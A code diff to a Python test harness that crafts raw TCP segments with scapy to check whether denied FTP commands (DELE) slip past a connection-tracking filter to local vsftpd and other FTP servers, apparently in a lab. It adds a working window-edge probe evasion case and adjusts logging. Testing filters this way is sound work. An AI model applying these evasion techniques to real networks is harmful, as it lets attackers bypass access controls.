@@ -9,8 +9,7 @@ usage: evasion_client.py PHASE CONF_JSON CASE [CASE...]
   PHASE      without | with (only names the target files: w/CASE-PHASE-*.txt)
   CONF_JSON  {"iface": "c0", "client4": .., "client6": .., "server4": .., "server6": ..,
               "root": DIR (the servers' shared root; targets live in DIR/w),
-              "ports": {"vsftpd": 21, "identity": 2100, "proftpd": 2121, "pyftpd": 2122},
-              "pcap_dir": DIR or null}
+              "ports": {"vsftpd": 21, "identity": 2100, "proftpd": 2121, "pyftpd": 2122}}
 Prints one JSON line per case: {"case", "phase", "executed", "what", "notes"}; "executed" is
 the server's own effect (a target file gone, a file or directory made, bytes transferred),
 read from the server's file system after the dialogue.
@@ -27,7 +26,6 @@ import time
 from scapy.layers.inet import IP, TCP
 from scapy.layers.inet6 import IPv6
 from scapy.packet import Raw
-from scapy.utils import wrpcap
 
 MARK = 0x7E7E
 ETH_P_ALL = 0x0003
@@ -305,7 +303,6 @@ def dele_case(case, phase, server, send=None, family=4, user="anonymous", files=
         notes.append("client stopped: %s" % e)
     finally:
         fl.close()
-        save_pcap(case, phase, fl)
     short = lambda r: repr(r.split("-%s-" % phase, 1)[1]).strip("'")  # noqa: E731  (w/CASE-PHASE-a.txt -> a.txt)
     deleted = [short(r) for r, p in made if gone(p, 0.3)]
     kept = [short(r) for r, p in made if os.path.exists(p)]
@@ -316,19 +313,6 @@ def dele_case(case, phase, server, send=None, family=4, user="anonymous", files=
     judged_names = [short(made[k][0]) for k in (judged if judged is not None else range(len(made)))]
     executed = any(n in deleted for n in judged_names)
     return executed, what, "; ".join(notes), {"sport": fl.sport}
-
-
-def save_pcap(case, phase, fl):
-    d = CONF.get("pcap_dir")
-    if not d or phase != "with":
-        return
-    pkts = []
-    for ts, raw in fl.packets:
-        p = IPv6(raw) if raw[0] >> 4 == 6 else IP(raw)
-        p.time = ts
-        pkts.append(p)
-    pkts.sort(key=lambda p: p.time)
-    wrpcap(os.path.join(d, "evasion_%s.pcap" % case), pkts, linktype=101)  # LINKTYPE_RAW
 
 
 # --- the cases ------------------------------------------------------------------------------
@@ -642,7 +626,6 @@ def audit_case(case, phase, pipelined):
         time.sleep(0.3)
     finally:
         fl.close()
-        save_pcap(case, phase, fl)
     done = got == body
     what = "vsftpd sent %d of %d bytes of %s over %s" % (len(got), len(body), name, used)
     return done, what, "; ".join(notes), {"argument": "pub/" + name, "used": used,
@@ -669,15 +652,50 @@ def tiny_segments(phase):
 
 
 @case
-def probe_byte_then_overlap(phase):
-    # A window-probe/keepalive-style segment: one byte at snd_una - 1 (already acknowledged),
-    # here a byte different from the original; then the denied line in a segment that starts
-    # with that old byte (the real one).
+def keepalive_byte_then_overlap(phase):
+    # A keepalive-style segment carrying one byte at snd_una - 1 (already acknowledged), here
+    # a byte different from the original; then the denied line in a segment that starts with
+    # that old byte (the real one), which the server trims.
     def send(fl, t):
         fl.send("X", off=fl.next - 1, advance=False)
         time.sleep(0.1)
         fl.send("\n" + "DELE %s\r\n" % t[0], off=fl.next - 1)
-    return dele_case("probe_byte_then_overlap", phase, "vsftpd", send)
+    return dele_case("keepalive_byte_then_overlap", phase, "vsftpd", send)
+
+
+@case
+def window_edge_probe_byte(phase):
+    # A window probe carries one byte at the right edge of the receiver's window (with a zero
+    # window: at snd_una). Conntrack's window check lets a segment starting at the edge pass;
+    # Linux drops its data (out of window). Here the probe's byte "N" sits where, one window
+    # of padding later, the denied line's "D" goes.
+    def send(fl, t):
+        time.sleep(0.1)
+        win = fl.srv_win
+        if win < 2048:
+            raise Harness("server window %d" % win)
+        edge = fl.next + win
+        fl.send("N", off=edge, advance=False)
+        time.sleep(0.05)
+        pad, line = [], "NOOP " + "p" * 1017 + "\r\n"
+        left = win
+        while left > 0:
+            if left >= len(line) + 8:
+                pad.append(line)
+            else:
+                pad.append("NOOP " + "q" * (left - 7) + "\r\n")
+            left -= len(pad[-1])
+        data = "".join(pad)
+        for i in range(0, len(data), 1400):
+            fl.send(data[i:i + 1400])
+            time.sleep(0.002)
+        for _ in range(len(pad)):
+            if fl.settle(1.0) is None:
+                break
+        if fl.next != edge:
+            raise Harness("padding ended at %d, not at the edge %d" % (fl.next, edge))
+        fl.send("DELE %s\r\n" % t[0])
+    return dele_case("window_edge_probe_byte", phase, "vsftpd", send)
 
 
 @case
@@ -707,12 +725,14 @@ def wire(pcap, sports):
         if t.flags & 0x02:  # SYN: the base
             base[t.sport] = (t.seq + 1) & 0xFFFFFFFF
         load = bytes(t[Raw].load) if Raw in t else b""
-        if load and t.sport in base:
-            out[t.sport].append("@%d %r" % ((t.seq - base[t.sport]) & 0xFFFFFFFF, load[:120]))
-        elif load:
-            out[t.sport].append("@? %r" % load[:120])
+        if load:
+            at = "@%d" % ((t.seq - base[t.sport]) & 0xFFFFFFFF) if t.sport in base else "@?"
+            more = "+%dB" % (len(load) - 64) if len(load) > 64 else ""
+            out[t.sport].append("%s %r%s" % (at, load[:64], more))
     for sport, segs in out.items():
-        print("%d\t%s" % (sport, " ".join(segs)[:600]))
+        if len(segs) > 10:
+            segs = segs[:3] + ["...(%d segments)..." % (len(segs) - 8)] + segs[-5:]
+        print("%d\t%s" % (sport, " ".join(segs)))
 
 
 def main():
